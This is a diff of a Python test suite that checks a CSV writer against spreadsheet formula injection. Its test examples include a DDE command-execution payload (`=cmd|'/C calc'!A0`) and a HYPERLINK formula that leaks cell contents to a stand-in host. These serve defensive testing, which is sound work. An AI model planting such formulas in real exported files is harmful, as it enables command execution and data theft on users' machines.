@@ -15,7 +15,6 @@ from people import people
 
 TRIGGERS = tuple(FORMULA + "\t\r")
 NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")
-BEGUN = re.compile(rf"[+-]?\d+([.,]\d+)?[{re.escape(''.join(SEPARATORS))}]")
 PASSED_OVER = ' "\N{NO-BREAK SPACE}\N{ZERO WIDTH NO-BREAK SPACE}\N{ZERO WIDTH SPACE}'
 PIECES = st.sampled_from(
     [*SEPARATORS, *FORMULA, *PASSED_OVER, *"\r\n\v\f\x85\u2028'1-ax|", "=1+1", "\r\n", '""', "-5"]
@@ -23,8 +22,6 @@ PIECES = st.sampled_from(
 TEXTS = st.lists(PIECES, max_size=8).map("".join) | st.text(
     st.characters(exclude_categories=("Cs",)), max_size=20
 )
-LAST = "."
-"""What the last column holds, so that none is empty: by itself neither a number nor a formula."""
 SEPARATED = [*SEPARATORS]
 LINES = ("\r\n", "\n", "\r", "\u2028", "\x85")
 
@@ -43,10 +40,8 @@ def readings(text):
 def calculates(cell):
     """Return whether a spreadsheet may calculate a cell."""
     parts = (part.strip('" ') for part in re.split(f"[{re.escape(''.join(SEPARATORS))}]", cell))
-    if all(part in ("", LAST) or NUMBER.fullmatch(part) for part in parts):
+    if all(not part or NUMBER.fullmatch(part) for part in parts):
         return False  # numbers side by side, which is nothing that can be worked out
-    if BEGUN.match(cell):
-        return False  # a line that begins with a number: so do those of figures, which stay figures
     bare = cell.lstrip(PASSED_OVER)
     return bare.startswith(TRIGGERS) or cell.startswith(TRIGGERS)
 
@@ -56,12 +51,11 @@ def calculates(cell):
 @example(first="Acme;=cmd|'/C calc'!A0", second="see below\n=cmd|'/C calc'!A0", number=-1.5)
 @example(first='x;=HYPERLINK("http://example.invalid/?"&A1)', second="a\t=1", number=0.0)
 @example(first="\t=1+1", second="\r=1+1", number=0.0)
-@example(first="-5", second="", number=0.0)
-@example(first="\t", second="-5", number=0.0)
 @example(first="-5", second="x", number=0.0)
+@example(first="\t", second="-5", number=0.0)
 @example(first="\n=1+1", second='x,\N{ZERO WIDTH NO-BREAK SPACE}"＝1', number=0.0)
 def test_no_reader_finds_a_formula(layout, first, second, number):
-    rows = ({"a": first, "b": number, "c": second, "d": LAST}, {"a": second, "b": None, "c": first})
+    rows = ({"a": first, "b": number, "c": second, "d": "."}, {"a": second, "b": None, "c": first})
     text = csv_text(Table(("a", "b", "c", "d"), rows), layout)
     assert [cell for cell in readings(text) if calculates(cell)] == []
 
@@ -77,7 +71,7 @@ def test_any_text_is_read_back_with_apostrophes_at_most(layout, text):
     assert row["a"].replace("'", "") == text.replace("'", "")
 
 
-@pytest.mark.parametrize("text", ["a; b", "1;2", "x,y", "one\ntwo", "a|b", "'x'", "5 - 3", "-5,5"])
+@pytest.mark.parametrize("text", ["a; b", "1;2", "x,y", "one\ntwo", "a|b", "'x'", "5 - 3", "5,5"])
 def test_what_calculates_nowhere_stays_as_it_is(text):
     assert csv_text(Table(("a",), ({"a": text},))).count("'") == text.count("'")
 
